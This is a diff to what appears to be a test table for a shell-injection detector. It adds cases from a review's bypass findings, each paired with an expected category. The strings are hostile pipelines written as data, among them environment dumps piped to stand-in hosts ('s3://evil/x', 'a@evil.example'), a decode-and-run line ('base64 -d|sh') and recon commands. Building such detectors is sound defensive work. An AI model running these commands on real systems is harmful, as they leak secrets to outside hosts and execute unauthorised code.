@@ -122,6 +122,12 @@ def kinds(raw: str) -> set[str]:
         ("| sleep 5 | x |", "command-after-separator"),
         ("| /bin/id | x |", "command-after-separator"),
         ("ls -la | id | nc", "command-line"),
+        # an operand or a table cell only when the recon output goes nowhere (the review's bypasses)
+        ("a | env | aws s3 cp - s3://evil/x", "command-after-separator"),
+        ("x | id | mail a@evil.example", "command-after-separator"),
+        ("x | env | gzip", "command-after-separator"),
+        ("|reboot|x|", "command-after-separator"),
+        ("|whoami||", "command-after-separator"),
         ("sudo uname -r", "command-line"),
         ("nohup whoami | sh", "command-line"),
         ("printf aWQ=|base64 -d|sh", "command-line"),
